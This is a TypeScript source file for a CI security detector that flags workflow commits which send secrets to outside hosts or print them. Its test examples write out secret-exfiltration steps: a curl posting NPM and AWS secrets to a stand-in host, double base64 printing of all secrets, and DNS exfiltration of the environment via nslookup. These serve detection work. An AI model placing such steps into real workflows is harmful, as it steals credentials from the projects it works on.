import { z } from "zod";
import { defineDetector, type Signal } from "../../model/detector.ts";
import type { CommitEvidence } from "../../model/evidence.ts";
import { aStep, aWorkflow, aWorkflowCommit } from "../../model/workflow-examples.ts";
import { clip } from "../../text/clip.ts";
import { gradeFlow } from "../../text/grade-flow.ts";
import { type SecretFlow, secretFlows } from "../../text/secret-flow.ts";
import { knownLines, workflowChanges } from "../../text/workflow-change.ts";

export default defineDetector({
  id: "workflow-secret-exfil",
  title: "A workflow sends secrets where they do not belong",
  family: "workflows",
  axis: "attack",
  group: "ci",
  stage: "stable",
  since: "0.1.0",
  rationale:
    "A workflow can read every secret that is handed to it, and nobody looks at its traffic. Secrets that leave for a host that is not their own vendor's, or that are printed past the masking, are being stolen.",
  falsePositives: [
    "A deployment hook on a server of one's own that takes several secrets in its body",
    "A private proxy in front of a vendor, under a name that does not tell whose it is",
  ],
  remedy:
    "Revert the commit, delete the runs, rotate every secret that the workflow could read, and look for the same workflow elsewhere.",
  references: [
    "ATT&CK T1567 Exfiltration Over Web Service",
    "OWASP CICD-SEC-6 Insufficient Credential Hygiene",
    "GhostAction 2025",
    "Shai-Hulud 2025",
    "CVE-2025-30066",
  ],
  needs: ["diff", "content"],
  options: z.strictObject({
    trustedHosts: z.array(z.string().max(253)).max(200).default([]).describe("hosts that may receive any secret"),
  }),
  examples: {
    flags: [
      {
        name: "named secrets posted to a stranger on every push",
        commit: aWorkflowCommit(
          aWorkflow({
            steps: [
              aStep({
                run: `curl -s -d 'NPM_TOKEN=\${{ secrets.NPM_TOKEN }}&AWS=\${{ secrets.AWS_SECRET_KEY }}' https://audit.example.net`,
              }),
            ],
          }),
        ),
      },
      {
        name: "all secrets printed, encoded twice",
        commit: aWorkflowCommit(
          aWorkflow({
            steps: [aStep({ run: 'echo "$ALL" | base64 -w 0 | base64 -w 0', env: { ALL: `\${{ toJSON(secrets) }}` } })],
          }),
        ),
      },
      {
        name: "the environment leaves as a look-up of names",
        commit: aWorkflowCommit(
          aWorkflow({ steps: [aStep({ run: "nslookup $(printenv | xxd -p | head -c 60).example.net" })] }),
        ),
      },
    ],
    passes: [
      {
        name: "coverage goes to its own vendor, a message to a webhook that is a secret itself",
        commit: aWorkflowCommit(
          aWorkflow({
            steps: [
              aStep({
                run: `curl -X POST -F "token=\${{ secrets.CODECOV_TOKEN }}" -F file=@cov.xml https://codecov.io/upload`,
              }),
              aStep({ run: `curl -X POST -d "{\\"text\\":\\"done\\"}" "\${{ secrets.SLACK_WEBHOOK_URL }}"` }),
            ],
          }),
        ),
      },
      {
        name: "a deployment hook of one's own, with its token in a header",
        commit: aWorkflowCommit(
          aWorkflow({
            steps: [
              aStep({
                run: `curl -fsS -H "Authorization: Bearer \${{ secrets.DEPLOY_TOKEN }}" https://deploy.example.org/hook`,
              }),
            ],
          }),
        ),
      },
      {
        name: "the same request as before, in another step",
        commit: aWorkflowCommit(
          aWorkflow({
            steps: [aStep({ name: "New name", run: `curl -d 'T=\${{ secrets.NPM_TOKEN }}' https://a.example.net` })],
          }),
          aWorkflow({ steps: [aStep({ run: `curl  -d 'T=\${{ secrets.NPM_TOKEN }}' https://a.example.net` })] }),
        ),
      },
    ],
  },
  detect(commit, { trustedHosts }) {
    const known = earlierFlows(commit);
    return workflowChanges(commit).flatMap(({ file, after }): Signal[] =>
      secretFlows(after).flatMap((flow): Signal[] => {
        const grade = gradeFlow(flow);
        if (!grade || (flow.host !== null && trustedHosts.includes(flow.host)) || isKnown(flow, known, commit))
          return [];
        return [
          {
            strength: grade.strength,
            confidence: 1,
            because: clip(grade.because, 300),
            path: file.path,
            ...(flow.line === null ? {} : { line: flow.line }),
            facts: { sink: flow.sink, secrets: flow.secrets.length, place: flow.place },
            matched: `${flow.sink} ${flow.host ?? ""} ${flow.secrets.join(" ")}`,
          },
        ];
      }),
    );
  },
});

function earlierFlows(commit: CommitEvidence): SecretFlow[] {
  return commit.files.flatMap((file) => (file.facts.workflow?.before ? secretFlows(file.facts.workflow.before) : []));
}

/** A flow that went the same way before, or whose whole command the commit only moved. */
function isKnown(flow: SecretFlow, earlier: readonly SecretFlow[], commit: CommitEvidence): boolean {
  const same = earlier.some(
    (one) =>
      one.sink === flow.sink &&
      one.host === flow.host &&
      one.encodings >= flow.encodings &&
      flow.secrets.every((name) => one.secrets.includes(name)),
  );
  const lines = knownLines(commit);
  return same || flow.command.split("\n").every((line) => line.trim() === "" || lines.has(line.trim()));
}
